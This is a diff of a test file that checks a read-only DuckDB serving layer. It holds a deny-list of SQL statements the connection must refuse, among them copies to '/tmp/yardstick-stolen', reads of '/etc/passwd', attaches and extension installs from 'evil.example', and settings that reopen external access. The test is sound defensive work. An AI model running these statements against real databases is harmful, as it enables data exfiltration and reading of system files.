@@ -49,35 +49,92 @@ test('a damaged generation is noticed before a number is shown, and the one befo
   expect(inUse.fault).toContain('gen-000002.duckdb differs from its manifest')
 })
 
-test.each(viewNames)('%s answers to any client of the newest generation', async (view) => {
+test('every view answers to any client of the newest generation', async () => {
   const dataDir = await temporaryFolder()
   await load(dataDir, realCase)
-  const rows = await rowsIn(dataDir, { text: `select * from ${view}`, values: [] })
-  expect(rows.length).toBeGreaterThanOrEqual(0)
+  for (const view of viewNames) {
+    const rows = await rowsIn(dataDir, { text: `select * from ${view}`, values: [] })
+    expect([view, rows.length]).toEqual([view, expect.any(Number)])
+  }
 })
 
-test.each([
+/** What would read or write beyond the generation, or change how it is read. */
+const refused = [
   'create table t (a integer)',
+  'create schema s',
   'delete from document',
-  "copy document to '/tmp/yardstick-stolen.csv'",
-  "select * from read_csv('/etc/passwd')",
-  "select * from read_text('/etc/passwd')",
-  "attach '/tmp/yardstick-other.duckdb'",
-  'install httpfs',
-  'load httpfs',
-  "set memory_limit = '10GB'",
-  'set enable_external_access = true',
+  "update evaluation set project = 'x'",
+  'drop table document',
+  'alter table document add column x integer',
+  'truncate document',
+  ...['csv', 'parquet', 'json'].map(
+    (format) => `copy document to '/tmp/yardstick-stolen' (format ${format})`,
+  ),
+  "copy document from '/etc/passwd'",
   "export database '/tmp/yardstick-stolen'",
-])('a served generation refuses: %s', async (statement) => {
+  "import database '/tmp/yardstick-stolen'",
+  ...[
+    'read_csv',
+    'read_csv_auto',
+    'sniff_csv',
+    'read_text',
+    'read_blob',
+    'read_json',
+    'read_ndjson',
+    'read_parquet',
+  ].map((reader) => `select * from ${reader}('/etc/passwd')`),
+  ...['parquet_metadata', 'parquet_schema', 'parquet_file_metadata', 'parquet_kv_metadata'].map(
+    (reader) => `select * from ${reader}('/etc/passwd')`,
+  ),
+  "select * from '/etc/passwd'",
+  "select * from 'x.parquet'",
+  "select * from read_csv('https://evil.example/x.csv')",
+  "select * from read_csv('s3://evil/x.csv')",
+  "attach '/tmp/yardstick-other.duckdb'",
+  "attach '/tmp/yardstick-other.duckdb' as other (read_only)",
+  "attach 'https://evil.example/x.duckdb'",
+  "attach 'x.sqlite' (type sqlite)",
+  'install httpfs',
+  "install x from 'http://evil.example'",
+  'force install icu',
+  'load httpfs',
+  "load '/tmp/x.duckdb_extension'",
+  'update extensions',
+  'create secret s (type s3)',
+  "set memory_limit = '10GB'",
+  "set temp_directory = '/etc'",
+  'set threads = 64',
+  'set enable_external_access = true',
+  'set lock_configuration = false',
+  "set allowed_directories = ['/']",
+  "set home_directory = '/root'",
+  "set extension_directory = '/tmp'",
+  "set secret_directory = '/tmp'",
+  'set autoinstall_known_extensions = true',
+  'set allow_unsigned_extensions = true',
+  "set global TimeZone = 'UTC'",
+  "set log_query_path = '/tmp/yardstick-log'",
+  "set profiling_output = '/tmp/yardstick-log'",
+  "pragma enable_profiling = 'json'",
+  "pragma profile_output = '/tmp/yardstick-log'",
+  'reset all',
+  'reset enable_external_access',
+]
+test('a served generation refuses what reaches beyond it', async () => {
   const dataDir = await temporaryFolder()
   await load(dataDir, realCase)
   const manifest = await currentManifest(dataDir)
-  const instance = await openReadOnly(
-    path.join(foldersOf(dataDir).generations, manifest?.file ?? ''),
-    await temporaryFolder(),
-  )
+  const file = path.join(foldersOf(dataDir).generations, manifest?.file ?? '')
+  const instance = await openReadOnly(file, await temporaryFolder())
   const connection = await instance.connect()
-  await expect(connection.run(statement)).rejects.toThrow()
+  const done: string[] = []
+  for (const statement of refused)
+    await connection.run(statement).then(
+      () => done.push(statement),
+      () => undefined,
+    )
+  expect(done).toEqual([])
+  expect((await connection.runAndReadAll('select id from document')).currentRowCount).toBe(1)
   connection.closeSync()
   instance.closeSync()
 })
